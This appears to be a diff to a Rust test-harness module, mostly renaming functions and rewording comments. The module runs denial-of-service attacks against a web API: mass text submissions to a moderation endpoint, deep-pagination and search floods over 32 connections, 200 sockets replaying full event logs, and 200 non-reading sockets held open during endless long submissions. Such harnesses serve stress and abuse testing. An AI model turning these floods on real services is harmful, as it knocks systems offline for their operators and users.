@@ -1,4 +1,4 @@
-//! Reading as expensively as possible, and not reading at all.
+//! Attacks that read as expensively as possible, or do not read at all.
 
 use std::io;
 
@@ -8,22 +8,22 @@ use tokio_tungstenite::tungstenite::Message;
 
 use crate::attacker::{Attacker, Socket};
 
-/// Submits so many texts of so many letters, from several connections.
-async fn fill(attacker: &Attacker, contents: usize, letters: usize) {
-    let body = json!({"content": "x".repeat(letters)}).to_string();
-    let fill = async |number| -> io::Result<()> {
+/// Submits this many texts of this length, over several connections.
+async fn submit_texts(attacker: &Attacker, item_count: usize, length: usize) {
+    let body = json!({"content": "x".repeat(length)}).to_string();
+    let submit_part = async |number| -> io::Result<()> {
         let mut line = attacker.connect(number).await?;
-        for _ in 0..contents / 16 {
-            attacker.by_key(&mut line, "POST", "/api/moderate", &body).await?;
+        for _ in 0..item_count / 16 {
+            attacker.request_with_key(&mut line, "POST", "/api/moderate", &body).await?;
         }
         Ok(())
     };
-    futures_util::future::join_all((0..16).map(fill)).await;
+    futures_util::future::join_all((0..16).map(submit_part)).await;
 }
 
-/// A socket in the attacker's own room.
-async fn joined(attacker: &Attacker, number: usize) -> io::Result<Socket> {
-    let mut socket = super::sockets::enter(attacker, number).await?;
+/// Opens a socket in the room of the attacker's own project.
+async fn open_joined_socket(attacker: &Attacker, number: usize) -> io::Result<Socket> {
+    let mut socket = super::sockets::open_with_key(attacker, number).await?;
     let join = json!(["join_project", {"project_id": attacker.target.project}]);
     socket.send(Message::text(format!("42{join}"))).await.map_err(io::Error::other)?;
     while let Some(Ok(message)) = socket.next().await {
@@ -34,9 +34,9 @@ async fn joined(attacker: &Attacker, number: usize) -> io::Result<Socket> {
     Err(io::ErrorKind::ConnectionRefused.into())
 }
 
-/// The last pages, the widest pages and searches, again and again.
+/// Requests the last pages, the widest pages, and expensive searches.
 pub(super) async fn deep_pages(attacker: &Attacker) {
-    fill(attacker, 800, 200).await;
+    submit_texts(attacker, 800, 200).await;
     let paths = [
         "/api/content?page=100&per_page=100",
         "/api/content?page=100000000&per_page=100",
@@ -46,25 +46,25 @@ pub(super) async fn deep_pages(attacker: &Attacker) {
         "/api/content?status=rejected&per_page=100&page=8",
     ];
     attacker
-        .many(32, async |number| {
+        .repeat_in_parallel(32, async |number| {
             let mut line = attacker.connect(number).await?;
             for path in paths.iter().cycle().skip(number) {
-                attacker.by_key(&mut line, "GET", path, "").await?;
+                attacker.request_with_key(&mut line, "GET", path, "").await?;
             }
             Ok(())
         })
         .await;
 }
 
-/// Two hundred sockets that ask for the whole log as often as they may.
-pub(super) async fn replays(attacker: &Attacker) {
-    fill(attacker, 800, 2_000).await;
+/// Requests the whole log at two hundred sockets, as often as the limits allow.
+pub(super) async fn full_replays(attacker: &Attacker) {
+    submit_texts(attacker, 800, 2_000).await;
     let replay = json!(["replay_events", {"project_id": attacker.target.project, "after": 0, "limit": 1000}]);
     attacker
-        .many(200, async |number| {
-            let mut socket = joined(attacker, number).await?;
+        .repeat_in_parallel(200, async |number| {
+            let mut socket = open_joined_socket(attacker, number).await?;
             for id in 0.. {
-                attacker.count(|tally| tally.requests += 1);
+                attacker.update_tally(|tally| tally.requests += 1);
                 socket.send(Message::text(format!("42{id}{replay}"))).await.map_err(io::Error::other)?;
                 if !matches!(socket.next().await, Some(Ok(_))) {
                     return Err(io::ErrorKind::ConnectionReset.into());
@@ -75,13 +75,13 @@ pub(super) async fn replays(attacker: &Attacker) {
         .await;
 }
 
-/// Two hundred sockets that join and never read again, while long texts are submitted.
+/// Joins at two hundred sockets that never read again, while long texts are submitted.
 pub(super) async fn deaf_readers(attacker: &Attacker) {
     let mut deaf = Vec::new();
     for number in 0..200 {
-        deaf.extend(joined(attacker, number).await);
+        deaf.extend(open_joined_socket(attacker, number).await);
     }
     loop {
-        fill(attacker, 160, 8_000).await;
+        submit_texts(attacker, 160, 8_000).await;
     }
 }
